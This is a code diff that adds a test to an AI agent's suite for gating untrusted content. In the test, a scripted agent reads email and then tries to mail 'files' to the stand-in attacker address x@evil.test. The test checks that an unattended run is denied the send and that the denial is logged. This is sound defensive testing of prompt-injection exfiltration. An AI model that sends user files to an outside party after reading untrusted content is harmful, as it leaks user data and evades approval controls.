@@ -141,4 +141,22 @@ describe('untrusted content gating', () => {
     expect(JSON.stringify(audit)).not.toContain(secret);
     expect(t.logs.join('')).not.toContain(secret);
   });
+
+  it("an unattended run that read outside content cannot use its approve list for a high-risk call", async () => {
+    await build();
+    fake.script(
+      { toolCalls: [{ name: 'test_email_read', arguments: {} }] },
+      { toolCalls: [{ name: 'test_email_send', arguments: { to: 'x@evil.test', body: 'files' } }] },
+      { content: 'done' },
+    );
+    const conversationId = app.conversations.ensure('job-mail', 'scheduler', 'mail');
+    await app.agent.runTurn({
+      conversationId, text: 'process my mail', origin: { channel: 'scheduler', chatId: 'mail' }, source: 'job', unattended: true,
+      approve: async () => ({ approved: true, by: 'job approve list' }),
+    });
+    expect(sent).toEqual([]);
+    const row = app.db.prepare("SELECT decision FROM audit WHERE tool = 'test_email_send'").get() as { decision: string };
+    expect(row.decision).toMatch(new RegExp(`^denied: this unattended run has read outside content \\(${EMAIL_SOURCE.replace(/[()]/g, '\\$&')}\\)`));
+  });
 });
+
